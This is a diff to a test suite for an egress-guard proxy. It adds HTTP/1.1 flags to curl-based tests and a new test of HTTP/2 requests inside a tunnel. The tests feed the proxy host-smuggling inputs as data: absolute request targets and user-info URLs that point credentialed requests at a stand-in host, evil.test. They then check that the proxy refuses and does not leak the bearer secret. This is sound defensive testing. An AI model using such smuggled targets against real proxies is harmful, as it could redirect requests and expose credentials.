@@ -124,10 +124,10 @@ describe.each(ADAPTERS)('%s traps', (adapter) => {
   })
 
   it('catches an absolute http:// target naming another host inside the tunnel', async () => {
-    const answer = await curl(deny.proxy.url, deny.proxyCaPath, 'https://api.alpha.test/v1/models', ['--request-target', 'http://other.test/v1/models'])
+    const answer = await curl(deny.proxy.url, deny.proxyCaPath, 'https://api.alpha.test/v1/models', ['--http1.1', '--request-target', 'http://other.test/v1/models'])
     expect(answer).toEqual({ status: 403, body: 'Forbidden by egress-guard proxy policy (host_mismatch)' })
     // The same host is fine, and the request (with its credential) still goes upstream over TLS.
-    const same = await curl(deny.proxy.url, deny.proxyCaPath, 'https://api.alpha.test/v1/models', ['--request-target', 'http://api.alpha.test/v1/models?absolute=1'])
+    const same = await curl(deny.proxy.url, deny.proxyCaPath, 'https://api.alpha.test/v1/models', ['--http1.1', '--request-target', 'http://api.alpha.test/v1/models?absolute=1'])
     expect(same.status).toBe(200)
     expect(deny.upstreams.alpha.received.at(-1)).toMatchObject({ path: '/v1/models?absolute=1', headers: { authorization: `Bearer ${SECRETS.alpha}` } })
   })
@@ -141,18 +141,18 @@ describe.each(ADAPTERS)('%s traps', (adapter) => {
     'http://u@api.alpha.test@evil.test/v1/ui'
   ])('catches a host hidden behind user info inside the tunnel: %s', async (target) => {
     const before = deny.upstreams.alpha.received.length
-    const answer = await curl(deny.proxy.url, deny.proxyCaPath, 'https://api.alpha.test/v1/models', ['--request-target', target])
+    const answer = await curl(deny.proxy.url, deny.proxyCaPath, 'https://api.alpha.test/v1/models', ['--http1.1', '--request-target', target])
     expect(answer).toEqual({ status: 403, body: 'Forbidden by egress-guard proxy policy (host_mismatch)' })
     expect(deny.upstreams.alpha.received).toHaveLength(before)
     // In an allow mode it passes, never with the credential.
     const earlier = allow.upstreams.alpha.received.length
-    const passed = await curl(allow.proxy.url, allow.proxyCaPath, 'https://api.alpha.test/v1/models', ['--request-target', target])
+    const passed = await curl(allow.proxy.url, allow.proxyCaPath, 'https://api.alpha.test/v1/models', ['--http1.1', '--request-target', target])
     expect(passed.status).not.toBe(403)
     for (const seen of allow.upstreams.alpha.received.slice(earlier)) expect(seen.headers.authorization ?? '').not.toContain(SECRETS.alpha)
   })
 
   it('never records user info: an absolute target with user:password inside the tunnel is judged and logged without it', async () => {
-    const answer = await curl(deny.proxy.url, deny.proxyCaPath, 'https://api.alpha.test/v1/models', ['--request-target', 'https://someone:pa55w0rd-in-url@api.alpha.test/v1/ui?x=1'])
+    const answer = await curl(deny.proxy.url, deny.proxyCaPath, 'https://api.alpha.test/v1/models', ['--http1.1', '--request-target', 'https://someone:pa55w0rd-in-url@api.alpha.test/v1/ui?x=1'])
     expect(answer.status).toBe(200)
     expect(deny.upstreams.alpha.received.at(-1)).toMatchObject({ path: '/v1/ui?x=1', headers: { authorization: `Bearer ${SECRETS.alpha}` } })
     expect(await deny.auditText()).not.toContain('pa55w0rd-in-url')
@@ -314,7 +314,36 @@ describe.each(ADAPTERS)('%s traps', (adapter) => {
     }
   })
 
-  it('does not speak HTTP/2 to clients: an h2-only TLS client gets no h2, and no request goes upstream', async () => {
+  it.runIf(ADAPTER_TRAITS[adapter].speaksHttp2ToClients)('speaks HTTP/2 in a tunnel: requests are judged as over HTTP/1.1, an absolute :path never reaches the upstream', async () => {
+    const before = deny.upstreams.alpha.received.length
+    const tunnel = await openTunnel(deny.proxy.port, deny.proxy.caCertPem, 'api.alpha.test', ['h2'])
+    expect(tunnel?.alpnProtocol).toBe('h2')
+    const session = http2.connect('https://api.alpha.test', { createConnection: () => tunnel! })
+    session.on('error', () => undefined)
+    const ask = (path: string): Promise<{ status: number; body: string }> =>
+      new Promise((resolve) => {
+        const stream = session.request({ ':method': 'GET', ':path': path })
+        let body = ''
+        let status = 0
+        stream.setEncoding('utf8')
+        stream.on('response', (headers) => (status = Number(headers[':status'])))
+        stream.on('data', (chunk: string) => (body += chunk))
+        stream.on('error', () => undefined)
+        stream.on('close', () => resolve({ status, body }))
+        stream.end()
+      })
+    const injected = await ask('/v1/models?over=h2')
+    expect(injected.status).toBe(200)
+    expect(deny.upstreams.alpha.received.at(-1)).toMatchObject({ path: '/v1/models?over=h2', headers: { authorization: `Bearer ${SECRETS.alpha}`, host: expect.stringMatching(/^api\.alpha\.test(?::443)?$/) } })
+    const absolute = await ask('http://evil.test/v1/models')
+    expect(absolute.status).not.toBe(200)
+    const unrouted = await ask('/elsewhere')
+    expect(unrouted).toEqual({ status: 403, body: expect.stringContaining('Forbidden by egress-guard proxy policy') })
+    expect(deny.upstreams.alpha.received).toHaveLength(before + 1)
+    session.destroy()
+  })
+
+  it.runIf(!ADAPTER_TRAITS[adapter].speaksHttp2ToClients)('does not speak HTTP/2 to clients: an h2-only TLS client gets no h2, and no request goes upstream', async () => {
     const before = deny.upstreams.alpha.received.length
     const tunnel = await openTunnel(deny.proxy.port, deny.proxy.caCertPem, 'api.alpha.test', ['h2'])
     expect(tunnel?.alpnProtocol ?? false).not.toBe('h2')
